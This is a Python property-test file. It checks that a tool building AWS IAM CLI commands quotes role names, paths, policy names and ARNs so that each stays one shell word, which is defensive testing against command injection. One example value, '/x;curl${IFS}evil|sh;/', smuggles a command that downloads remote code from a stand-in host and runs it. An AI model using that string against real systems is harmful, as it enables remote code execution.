"""Commands over names that come from AWS: whatever these hold, a shell takes each as the one word that it is."""

from __future__ import annotations

import json

from hypothesis import example, given
from hypothesis import strategies as st

from tests.tools.diagnosis.hostile_names import SCOPE, names, options
from vended_logs_tools.account.calls import Absent, Call
from vended_logs_tools.account.roles import Role, RolePolicies, RolePolicy, Simulated
from vended_logs_tools.diagnosis.delivery_actions import ALLOWING
from vended_logs_tools.diagnosis.finding import Diagnosis
from vended_logs_tools.diagnosis.identity import said_of
from vended_logs_tools.diagnosis.role import Findings
from vended_logs_tools.diagnosis.role_causes import causes, missing_role
from vended_logs_tools.diagnosis.shell import as_command, command
from vended_logs_tools.diagnosis.trust import diagnose_trust, statement
from vended_logs_tools.rules.iam import ROLE_ACTIONS


def findings(role: str, boundary: str | None, own: RolePolicies | None, simulated: Simulated) -> Diagnosis:
    """Return the one thing that is found of a role."""
    arn = f"arn:aws:iam::123456789012:role/{role}"
    said = said_of(own, has_boundary=boundary is not None) if own else None
    whole = Findings(role, arn, boundary, Call("iam", "x"), dict.fromkeys(ROLE_ACTIONS, simulated), own, said)
    [found] = causes(whole, "billing")
    return found


def policy(name: str, *calls: tuple[str, str], effect: str = "Allow", action: str = "s3:*") -> RolePolicy:
    """Return a policy that was read by a call."""
    statement = {"Effect": effect, "Action": action, "Resource": "*"}
    operation = "GetPolicyVersion" if any(key == "policy-arn" for key, _ in calls) else "GetRolePolicy"
    return RolePolicy(name, {"Statement": [statement]}, Call("iam", operation, calls))


@given(st.lists(names, min_size=1, max_size=4), names)
def test_law_each_value_is_one_word(values: list[str], name: str) -> None:
    """A command's words are those that were meant, at any place, whatever its values hold."""
    given_options = tuple((f"option-{number}", value) for number, value in enumerate(values))
    expected = dict(given_options)

    assert options(command("iam do-it", *given_options), "iam do-it") == expected
    call = Call("iam", "DoIt", given_options)
    whole = as_command(call, ("more", name), tail="> out.json")
    assert options(whole, "iam do-it", file="out.json") == {**expected, "more": name}


@given(names, names)
@example("orders", "/x;curl${IFS}evil|sh;/")
def test_missing_role(name: str, path: str) -> None:
    """A role's name and path, which IAM lets hold every printable character, reach the commands as they are."""
    found = missing_role(Absent(Call("iam", "GetRole"), "is absent"), name, path, "123456789012", "billing")
    made = options(found.commands[0], "iam create-role")
    put = options(found.commands[1], "iam put-role-policy")

    assert made["role-name"] == put["role-name"] == name
    assert made.get("path", "/") == path
    assert json.loads(made["assume-role-policy-document"])["Statement"] == [statement("123456789012")]
    assert json.loads(put["policy-document"])["Statement"] == [ALLOWING]


@given(names, st.lists(names, max_size=3))
def test_lacking(role: str, taken: list[str]) -> None:
    """The policy for the role gets a name that none of its policies has, in any case."""
    held = [*taken, "LOGDELIVERY"]
    found = findings(role, None, RolePolicies((), None, inline=frozenset(held)), Simulated("implicitDeny"))
    put = options(found.commands[0], "iam put-role-policy")

    assert put["role-name"] == role
    assert put["policy-name"].lower() not in {one.lower() for one in held}


@given(names, names, names)
def test_denied(role: str, name: str, sid: str) -> None:
    """The command that shows the policy with the Deny names it as it is."""
    taking = policy(name, ("role-name", role), ("policy-name", name), effect="Deny", action="logs:*")
    taking.document["Statement"][0]["Sid"] = sid  # type: ignore[index]  # a document of JSON
    found = findings(role, None, RolePolicies((taking,), None), Simulated("explicitDeny"))

    assert options(found.commands[0], "iam get-role-policy") == {"role-name": role, "policy-name": name}


@given(names, names, names, st.booleans())
def test_boundary(role: str, name: str, version: str, is_read: bool) -> None:  # noqa: FBT001 - drawn by hypothesis
    """A boundary's ARN, which has a path, and its version reach the commands as they are."""
    arn = f"arn:aws:iam::123456789012:policy/{name}"
    limit = policy(name, ("policy-arn", arn), ("version-id", version)) if is_read else None
    own = RolePolicies((policy("own", action="logs:*"),), limit)
    found = findings(role, arn, own, Simulated("implicitDeny", by_boundary=False))
    [told] = found.commands

    if limit is None:
        assert options(told, "iam get-policy") == {"policy-arn": arn}
        return
    put = options(told, "iam create-policy-version", flags=("--set-as-default",))
    assert put["policy-arn"] == arn
    assert json.loads(put["policy-document"])["Statement"] == [limit.document["Statement"][0], ALLOWING]  # type: ignore[index]  # a document of JSON


@given(names, names, names)
def test_boundary_with_a_denial(name: str, version: str, sid: str) -> None:
    """The command that shows a boundary with a Deny names it as it is."""
    arn = f"arn:aws:iam::123456789012:policy/{name}"
    limit = policy(name, ("policy-arn", arn), ("version-id", version), effect="Deny", action="logs:*")
    limit.document["Statement"][0]["Sid"] = sid  # type: ignore[index]  # a document of JSON
    own = RolePolicies((policy("own", action="logs:*"),), limit)
    found = findings("orders", arn, own, Simulated("implicitDeny", by_boundary=False))

    assert options(found.commands[0], "iam get-policy-version") == {"policy-arn": arn, "version-id": version}


@given(names, names)
def test_boundary_of_aws(role: str, name: str) -> None:
    """What is made in the place of AWS's policy is what the role is given."""
    arn = f"arn:aws:iam::aws:policy/{name}"
    own = RolePolicies((policy("own", action="logs:*"),), policy(name, ("policy-arn", arn), ("version-id", "v1")))
    found = findings(role, arn, own, Simulated("implicitDeny", by_boundary=False))
    made = options(found.commands[-2], "iam create-policy")
    put = options(found.commands[-1], "iam put-role-permissions-boundary")

    assert put["role-name"] == role
    assert put["permissions-boundary"] == f"arn:aws:iam::123456789012:policy/{made['policy-name']}"


@given(names, names, names)
def test_trust(role: str, sid: str, value: str) -> None:
    """A trust policy is put back with all that it held, at the place as anywhere."""
    kept = {
        "Sid": sid,
        "Effect": "Allow",
        "Principal": {"Service": "lambda.amazonaws.com"},
        "Action": "sts:AssumeRole",
        "Condition": {"StringEquals": {"aws:PrincipalTag/x": value}},
    }
    there = Role(role, {"Version": "2012-10-17", "Statement": [kept]}, None, Call("iam", "GetRole"))
    [found] = diagnose_trust(there, SCOPE, "billing")
    put = options(found.commands[0], "iam update-assume-role-policy")

    assert put["role-name"] == role
    assert json.loads(put["policy-document"])["Statement"] == [kept, statement("123456789012")]
